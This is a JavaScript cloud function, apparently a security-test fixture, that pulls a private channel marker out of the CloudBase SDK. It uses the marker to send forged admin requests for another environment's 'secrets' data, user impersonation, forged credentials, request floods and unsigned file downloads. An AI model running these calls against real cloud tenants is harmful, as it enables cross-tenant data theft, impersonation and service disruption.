// A hostile function against the in-function data path: it takes the channel's private
// marker from the layer SDK and sends calls of its own making over the channel, claiming
// another env, an end user's identity, or a forged credential.
const crypto = require('crypto');
const http = require('http');
const path = require('path');
const cloud = require('wx-server-sdk');

cloud.init({ env: cloud.DYNAMIC_CURRENT_ENV });
const dist = path.dirname(require.resolve('@cloudbase/node-sdk'));
const core = require(path.join(dist, 'utils/request-core.js'));
const { TcbApiHttpRequester } = require(path.join(dist, 'utils/tcbapirequester.js'));

const adminUrl = () => JSON.parse(process.env.TCB_CONTEXT_CNFG).URL;

// The marker the layer puts on requests it sends over the channel (none when it would
// not use the channel for this instance).
function channelMarker() {
  if (!process.env.TCB_CONTEXT_CNFG) return null;
  const requester = new TcbApiHttpRequester({
    config: { secretId: process.env.TENCENTCLOUD_SECRETID, secretKey: process.env.TENCENTCLOUD_SECRETKEY },
    params: { action: 'database.queryDocument' },
    opts: {},
  });
  try {
    const headers = requester.getHeaders('post', `${adminUrl()}?env=x`, {});
    return Object.getOwnPropertySymbols(headers)[0] || null;
  } catch (_) {
    return null; // the SDK's own signing path, which this call does not satisfy
  }
}

function raw(marker, query, body) {
  return new Promise((resolve, reject) => {
    core.request({ url: `${adminUrl()}?${query}`, method: 'post', headers: { [marker]: true }, body, json: true, timeout: 10000 },
      (err, _res, answer) => (err ? reject(err) : resolve(answer)));
  });
}

exports.main = async (event) => {
  const marker = channelMarker();
  if (event.kind === 'marker') return { marker: marker !== null };
  const env = cloud.getWXContext().ENV;
  const query = (e) => ({ action: 'database.queryDocument', envName: e, collectionName: 'secrets', query: '{}', limit: 10 });
  switch (event.kind) {
    case 'other-env-query': return raw(marker, `env=${event.target}`, query(env));
    case 'other-env-body': return raw(marker, '', query(event.target));
    case 'as-user': return raw(marker, `env=${env}`, {
      action: 'functions.invokeFunction', envName: env, function_name: 'whoami', request_data: '{}',
      tcb_sessionToken: event.token, access_token: event.token, wxCloudApiToken: event.token, uid: event.uid,
    });
    case 'forged-credential': return raw(marker, `env=${event.target}`, {
      ...query(event.target), sessionToken: event.sessionToken, secretId: event.secretId, secretKey: event.secretKey,
    });
    case 'flood': {
      const calls = [];
      for (let i = 0; i < event.n; i++) calls.push(raw(marker, `env=${env}`, { action: 'database.calculateDocument', envName: env, collectionName: 'secrets', query: '{}' }));
      const answers = await Promise.all(calls);
      if (event.n === 1) return answers[0];
      return { answered: answers.filter((a) => a.data && a.data.total >= 0).length };
    }
    case 'unsigned-download': {
      // A transfer over the channel with no signature or grant of its own.
      const origin = adminUrl().replace(/\/admin$/, '');
      return new Promise((resolve, reject) => core.request({ method: 'get', url: `${origin}/files/${event.env}/${event.path}`, type: 'raw' },
        (err, res, body) => (err ? reject(err) : resolve({ status: res.statusCode, body: body.toString() }))));
    }
    case 'big-file': {
      let yunRequests = 0;
      const httpRequest = http.request;
      http.request = function request(url, ...rest) {
        if (String(url).includes('/files/')) yunRequests++;
        return httpRequest.call(this, url, ...rest);
      };
      try {
        const bytes = crypto.randomBytes(event.bytes);
        const up = await cloud.uploadFile({ cloudPath: 'big/file.bin', fileContent: bytes });
        const down = await cloud.downloadFile({ fileID: up.fileID });
        await cloud.deleteFile({ fileList: [up.fileID] });
        return { same: Buffer.compare(bytes, down.fileContent) === 0, bytes: down.fileContent.length, yunRequests };
      } finally {
        http.request = httpRequest;
      }
    }
    case 'plain-query': {
      try {
        return { ok: await cloud.database().collection('secrets').count() };
      } catch (e) {
        return { error: { errCode: e.errCode, errMsg: e.errMsg, code: e.code } };
      }
    }
    default: throw new Error(`unknown kind ${event.kind}`);
  }
};
